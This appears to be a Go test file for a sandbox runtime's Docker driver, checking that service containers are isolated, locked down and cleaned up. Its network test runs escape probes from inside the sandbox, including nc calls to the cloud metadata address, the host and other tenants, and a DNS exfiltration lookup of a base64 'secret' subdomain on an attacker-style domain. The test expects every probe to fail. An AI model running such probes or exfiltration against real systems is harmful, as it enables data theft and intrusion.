package docker

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/api/types/volume"

	"github.com/drawbridge-mcp/drawbridge/runtime"
	"github.com/drawbridge-mcp/drawbridge/runtime/runtimetest"
)

// serving returns the spec of a sandbox with services that answer on port 5000.
func serving(t testing.TB, names ...string) runtime.Spec {
	t.Helper()
	spec := gated(t, "sleep", "1000")
	for _, name := range names {
		spec.Services = append(spec.Services, runtime.ServiceSpec{Name: name, Image: runtimetest.ServerImage(t), Port: 5000, Env: []string{"PASSWORD=of " + name}})
	}
	return spec
}

// withServices are the drivers that put services beside sandboxes: where these come to
// their gate by its socket, and by a relay.
func withServices(t *testing.T, test func(t *testing.T, d *Driver)) {
	t.Run("direct", func(t *testing.T) {
		t.Parallel()
		d := newDriver(t, Options{Sandbox: &no})
		t.Cleanup(func() { _ = d.Close() })
		test(t, d)
	})
	relayed(t, test)
}

// up makes and starts a sandbox with its services, which answer.
func up(t *testing.T, d *Driver, spec runtime.Spec) (runtime.Handle, *handle) {
	t.Helper()
	rh, h := made(t, d, spec)
	if err := d.StartServices(soon(t), rh); err != nil {
		t.Fatal(err)
	}
	for _, s := range spec.Services {
		eventually(t, "the service "+s.Name+" answers", func() bool {
			_, output, err := d.ExecService(soon(t), rh, s.Name, []string{"sh", "-c", "echo ready | nc -w 5 127.0.0.1 5000"})
			return err == nil && output == "ready\n"
		})
	}
	if err := d.Start(soon(t), rh, runtime.StartOptions{}); err != nil {
		t.Fatal(err)
	}
	return rh, h
}

func eventually(t *testing.T, what string, ok func() bool) {
	t.Helper()
	for end := time.Now().Add(time.Minute); !ok(); time.Sleep(50 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("not in time: %s", what)
		}
	}
}

func TestServicesAreReachedByTheirSandboxAndByNobodyElse(t *testing.T) {
	t.Parallel()
	withServices(t, func(t *testing.T, d *Driver) {
		port, count := hears(t)
		_, other := up(t, d, serving(t, "first"))
		rh, h := up(t, d, serving(t, "first", "second"))
		inSandbox := func(script string) string {
			var out bytes.Buffer
			if _, err := d.Exec(soon(t), rh, runtime.ExecSpec{Command: []string{"sh", "-c", script}, Stdout: &out, Stderr: &out}); err != nil {
				t.Fatal(err)
			}
			return out.String()
		}
		inService := func(script string) string {
			_, output, err := d.ExecService(soon(t), rh, "first", []string{"sh", "-c", script})
			if err != nil {
				t.Fatal(err)
			}
			return output
		}
		says := func(where string, run func(string) string, want string, targets ...string) {
			t.Helper()
			for _, target := range targets {
				if got := run("echo hello | nc -w 30 " + target + " 2>&1"); (got == "hello\n") != (want == "answer") {
					t.Errorf("%s, %s: %q, want %s", where, target, got, want)
				}
			}
		}
		first := h.Network.serviceAddress(0).String()
		says("sandbox", inSandbox, "answer", "first 5000", "second 5000", first+" 5000")
		says("service", inService, "answer", "second 5000")

		// The host, the networks of others, and the Internet.
		strangers := []string{other.Network.serviceAddress(0).String() + " 5000", other.Network.address(placeSandbox).String() + " 5000", "172.17.0.1 5000", "169.254.169.254 80", "1.1.1.1 80"}
		for _, address := range hostAddresses(t) {
			strangers = append(strangers, fmt.Sprintf("%s %d", address, port))
		}
		// All at the same time: some of them do not refuse, and say nothing. The first one
		// is the mirror.
		script := "echo from second | nc -w 30 second 5000 & "
		for _, target := range strangers {
			script += "echo from " + target + " | nc -w 3 " + target + " 2>/dev/null & "
		}
		for where, run := range map[string]func(string) string{"the sandbox": inSandbox, "a service": inService} {
			if got := run(script + "wait"); got != "from second\n" {
				t.Errorf("%s reached %q", where, got)
			}
		}
		if n := count.Load(); n != 0 {
			t.Errorf("the host was reached %d times", n)
		}
		for _, run := range []func(string) string{inSandbox, inService} {
			if got := run("nslookup c2VjcmV0.evil.test || echo failed"); !strings.Contains(got, "failed") {
				t.Errorf("a name was resolved: %q", got)
			}
		}
		// Nothing of it is published.
		found, err := d.cli.ContainerInspect(soon(t), h.Network.Services[0].ID)
		if err != nil || len(found.HostConfig.PortBindings) > 0 || len(found.NetworkSettings.Ports["5000/tcp"]) > 0 || len(found.NetworkSettings.Networks) != 1 {
			t.Errorf("ports %+v on %+v, %v", found.NetworkSettings.Ports, found.NetworkSettings.Networks, err)
		}
		// The way to the gate is as without services.
		if got := inSandbox("printf 'GET / HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n' | nc -w 30 127.0.0.1 3128"); !strings.Contains(got, "200 OK") {
			t.Errorf("of the gate came %q", got)
		}
	})
}

func TestServicesAreShutInLikeSandboxes(t *testing.T) {
	t.Parallel()
	p := testPlan(func(p *plan) {
		p.network, p.attempt, p.how.runtime = testNetwork, "attempt", "runtime"
		p.spec.Services = []runtime.ServiceSpec{{Name: "db", Image: "db:1", User: "db", Env: []string{"A=b"}, Port: 1, MemoryBytes: 5 << 20}, {Name: "other", Image: "x", Port: 2}}
	})
	h := serviceHostConfig(p, &p.spec.Services[0], "{}")
	if h.Privileged || len(h.CapAdd) > 0 || !slices.Equal(h.CapDrop, []string{"ALL"}) || len(h.Mounts) > 0 || len(h.Binds) > 0 || len(h.PortBindings) > 0 || h.Runtime != "runtime" {
		t.Errorf("it may do more: %+v", h)
	}
	if !slices.Equal(h.SecurityOpt, []string{"no-new-privileges", "seccomp={}"}) {
		t.Errorf("security options %q", h.SecurityOpt)
	}
	if h.CgroupnsMode != "private" || h.IpcMode != "private" || h.PidMode != "" || h.NetworkMode != "network" || !slices.Equal(h.DNS, []string{noNameServer}) {
		t.Errorf("name spaces: cgroup %q, ipc %q, pid %q, network %q", h.CgroupnsMode, h.IpcMode, h.PidMode, h.NetworkMode)
	}
	if h.Memory != 5<<20 || h.MemorySwap != h.Memory || h.NanoCPUs != serviceCPUs*1e9 || *h.PidsLimit != servicePids || h.RestartPolicy.Name != "no" {
		t.Errorf("resources %+v, restart %+v", h.Resources, h.RestartPolicy)
	}
	if other := serviceHostConfig(p, &p.spec.Services[1], "{}"); other.Memory != runtime.DefaultServiceMemoryBytes {
		t.Errorf("memory without a wish: %d", other.Memory)
	}
	hosts := []string{"db:198.18.7.20", "other:198.18.7.21"}
	sandbox, err := p.hostConfig()
	if err != nil || !slices.Equal(h.ExtraHosts, hosts) || !slices.Equal(sandbox.ExtraHosts, hosts) {
		t.Errorf("names %q and %q, %v; want %q", h.ExtraHosts, sandbox.ExtraHosts, err, hosts)
	}
	c := serviceConfig(p, &p.spec.Services[0])
	if c.User != "db" || len(c.Entrypoint) > 0 || c.Labels[runtime.LabelRole] != runtime.RoleService || c.Labels[runtime.LabelService] != "db" || c.Labels[runtime.LabelRun] != p.spec.ID || c.Labels[runtime.LabelHome] != "home" {
		t.Errorf("it is made as %+v", c)
	}
}

func TestServicesThatCannotBeMadeAreRefused(t *testing.T) {
	t.Parallel()
	good := runtime.ServiceSpec{Name: "db", Image: "db", Port: 1}
	named := func(name string) runtime.ServiceSpec { s := good; s.Name = name; return s }
	if err := checkServices([]runtime.ServiceSpec{good, named("db-2")}); err != nil {
		t.Errorf("what can be made: %v", err)
	}
	for name, services := range map[string][]runtime.ServiceSpec{
		"twice": {good, good}, "no name": {named("")}, "a dot": {named("a.b")}, "a line": {named("a\nb")}, "this machine": {named("localhost")},
		"a mount that it writes": {{Name: "db", Image: "db", Port: 1, Mounts: []runtime.MountConfig{{Source: "/a", Target: "/b"}}}},
		"a mount of nowhere":     {{Name: "db", Image: "db", Port: 1, Mounts: []runtime.MountConfig{{Source: "a", Target: "/b", ReadOnly: true}}}},
		"no image":               {{Name: "db", Port: 1}}, "no port": {{Name: "db", Image: "db"}}, "too many": make([]runtime.ServiceSpec, runtime.MaxServices+1),
	} {
		if err := checkServices(services); err == nil {
			t.Errorf("%s: nothing is wrong", name)
		}
	}
	spec := runtime.Spec{Services: []runtime.ServiceSpec{good}}
	gvisor := chosen{isolation: runtime.IsolationGVisor}
	for name, test := range map[string]struct {
		facts facts
		how   chosen
		spec  runtime.Spec
		want  error
	}{
		"runc":                {facts{}, chosen{isolation: runtime.IsolationRunc}, spec, nil},
		"gvisor":              {facts{filters: true}, gvisor, spec, nil},
		"gvisor, kernel":      {facts{sources: true}, gvisor, spec, nil},
		"gvisor with neither": {facts{}, gvisor, spec, runtime.ErrUnsupported},
		"files":               {facts{sameKernel: true}, chosen{}, runtime.Spec{Services: []runtime.ServiceSpec{{Mounts: make([]runtime.MountConfig, 1)}}}, nil},
		"files, elsewhere":    {facts{}, chosen{}, runtime.Spec{Services: []runtime.ServiceSpec{{Mounts: make([]runtime.MountConfig, 1)}}}, runtime.ErrUnsupported},
		"and no services":     {facts{}, gvisor, runtime.Spec{}, nil},
		"open network":        {facts{filters: true}, gvisor, runtime.Spec{Services: spec.Services, Network: runtime.NetworkOpen}, runtime.ErrUnsupported},
	} {
		if err := canServe(&test.facts, test.how, test.spec); !errors.Is(err, test.want) {
			t.Errorf("%s: %v, want %v", name, err, test.want)
		}
	}
}

// leftOf lists containers, networks and volumes of services that are there.
func leftOf(t *testing.T, d *Driver, spec runtime.Spec, volumes []string) []string {
	t.Helper()
	var left []string
	objects, err := d.List(soon(t), map[string]string{runtime.LabelRun: spec.ID})
	if err != nil {
		t.Fatal(err)
	}
	for _, object := range objects {
		left = append(left, object.Role+" "+object.Name)
	}
	there, err := d.cli.VolumeList(soon(t), volume.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range there.Volumes {
		if slices.Contains(volumes, v.Name) {
			left = append(left, "volume "+v.Name)
		}
	}
	return left
}

// volumesOf lists the volumes of a container.
func volumesOf(t *testing.T, d *Driver, id string) []string {
	t.Helper()
	found, err := d.cli.ContainerInspect(soon(t), id)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, m := range found.Mounts {
		if m.Type != "volume" || m.Source == "" {
			t.Errorf("the service has the mount %+v", m)
		}
		names = append(names, m.Name)
	}
	return names
}

func TestServicesGoWithTheirSandbox(t *testing.T) {
	t.Parallel()
	d := newDriver(t, Options{Sandbox: &no})
	t.Cleanup(func() { _ = d.Close() })
	t.Run("by its handle", func(t *testing.T) {
		t.Parallel()
		spec := serving(t, "first", "second")
		rh, h := up(t, d, spec)
		volumes := append(volumesOf(t, d, h.Network.Services[0].ID), volumesOf(t, d, h.Network.Services[1].ID)...)
		if left := leftOf(t, d, spec, volumes); len(volumes) != 2 || len(left) != 6 {
			t.Fatalf("there is %q", left)
		}
		if err := d.Remove(soon(t), rh); err != nil {
			t.Fatal(err)
		}
		if left := leftOf(t, d, spec, volumes); len(left) != 0 {
			t.Errorf("left behind: %q", left)
		}
	})
	t.Run("as a sweep finds them", func(t *testing.T) {
		t.Parallel()
		spec := serving(t, "first")
		_, h := up(t, d, spec)
		volumes := volumesOf(t, d, h.Network.Services[0].ID)
		objects, err := d.List(soon(t), map[string]string{runtime.LabelRun: spec.ID})
		if err != nil {
			t.Fatal(err)
		}
		slices.Reverse(objects) // the network first
		for _, object := range objects {
			if err := d.Remove(soon(t), object.Handle); err != nil {
				t.Errorf("remove the %s: %v", object.Role, err)
			}
		}
		if left := leftOf(t, d, spec, volumes); len(left) != 0 {
			t.Errorf("left behind: %q", left)
		}
	})
	t.Run("where one cannot be made", func(t *testing.T) {
		t.Parallel()
		spec := serving(t, "first", "second")
		spec.Services[1].Image += "-absent"
		if _, err := d.Create(soon(t), spec); !errors.Is(err, runtime.ErrImageMissing) || !strings.Contains(err.Error(), "the service second") || !strings.Contains(err.Error(), "-absent") {
			t.Errorf("got %v", err)
		}
		if left := leftOf(t, d, spec, nil); len(left) != 0 {
			t.Errorf("left behind: %q", left)
		}
	})
}

// How services are told of: what they are, what they say, how they end.
func TestServicesAreTold(t *testing.T) {
	t.Parallel()
	d := newDriver(t, Options{Sandbox: &no})
	t.Cleanup(func() { _ = d.Close() })
	spec := serving(t, "server", "talker")
	spec.Services[1].Command = []string{"sh", "-c", "for i in 1 2 3 4; do echo line $i; done; echo $PASSWORD >&2; exec sleep 1000"}
	rh, h := made(t, d, spec)
	about, err := d.Describe(rh)
	if err != nil || about.NetworkID != h.Network.ID || len(about.Services) != 2 || about.Services[1].Name != "talker" || about.Services[1].BackendID == "" || about.Services[1].Address.Port() != 5000 {
		t.Errorf("described as %+v, %v", about, err)
	}
	if _, _, err := d.ExecService(soon(t), rh, "server", []string{"true"}); !errors.Is(err, runtime.ErrConflict) {
		t.Errorf("a command before the start: %v", err)
	}
	for range 2 { // the second finds them started
		if err := d.StartServices(soon(t), rh); err != nil {
			t.Fatal(err)
		}
	}
	if code, output, err := d.ExecService(soon(t), rh, "server", []string{"sh", "-c", "id -u; echo $PASSWORD; exit 3"}); code != 3 || output != "7\nof server\n" || err != nil {
		t.Errorf("a command ended with %d, %q, %v", code, output, err)
	}
	var lines []string
	eventually(t, "the service says what it says", func() bool {
		// The order of the two streams is anybody's guess.
		lines, err = d.ServiceLog(soon(t), rh, "talker", 10)
		return err == nil && len(lines) == 5 && slices.Contains(lines, "line 4") && slices.Contains(lines, "of talker")
	})
	if lines, err = d.ServiceLog(soon(t), rh, "talker", 2); err != nil || len(lines) != 2 {
		t.Errorf("of two lines there are %q, %v", lines, err)
	}
	short, cancel := context.WithTimeout(soon(t), 100*time.Millisecond)
	defer cancel()
	if exit, err := d.WaitService(short, rh, "talker"); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("while it runs it ended with %+v, %v", exit, err)
	}
	if exit, err := d.WaitService(soon(t), rh, "none"); !errors.Is(err, runtime.ErrNotFound) {
		t.Errorf("what is not there ended with %+v, %v", exit, err)
	}
	if err := d.cli.ContainerKill(soon(t), h.Network.Services[1].ID, "KILL"); err != nil {
		t.Fatal(err)
	}
	if exit, err := d.WaitService(soon(t), rh, "talker"); err != nil || exit.Code != 137 || exit.OOMKilled {
		t.Errorf("it ended with %+v, %v", exit, err)
	}
	for range 2 {
		if err := d.StopServices(soon(t), rh); err != nil {
			t.Error(err)
		}
	}
	found, err := d.cli.ContainerInspect(soon(t), h.Network.Services[0].ID)
	if err != nil || found.State.Status != container.StateExited {
		t.Errorf("after the stop: %+v, %v", found.State, err)
	}
}
